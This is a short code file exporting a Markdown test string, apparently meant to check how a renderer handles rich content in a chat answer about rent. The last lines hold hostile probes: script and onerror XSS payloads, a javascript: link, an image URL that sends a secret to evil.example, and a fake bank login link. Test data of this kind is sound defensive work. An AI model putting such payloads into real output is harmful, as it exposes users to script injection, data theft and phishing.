/** An answer with everything that Markdown has, and with what a hostile one would try. */
export const everything = [
  '## What it costs\n\nThe rent is `900` euros a month, see <b>the lease</b> [1].\n\n',
  '| Who | Pays for | Up to |\n| --- | --- | ---: |\n| Tenant | small repairs | 120 |\n| Landlord | the roof | |\n\n',
  '```python\ndef yearly(rent):\n    return 12 * rent  # euros\n```\n\n',
  'For a rent $r$ and from $5 to $10 a day:\n\n$$\n\\vec{y} = \\sum_{i=1}^{12} r_i\n$$\n\n',
  '```mermaid\nflowchart LR\n  A[Tenant] --> B{Repair}\n  B -->|small| C[Tenant pays]\n  B -->|roof| D[Landlord pays]\n```\n\n',
  '```mermaid\nflowchart LR\n  A[ -->\n```\n\n',
  '- [x] signed\n- [ ] paid\n  1. first\n\nالإيجار تسعمئة يورو.\n\n',
  '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(1)</script>\n\n',
  '![plan](https://evil.example/plan.png?secret=1) [run](javascript:alert(1)) [bank](https://evil.example/login)\n',
].join('')
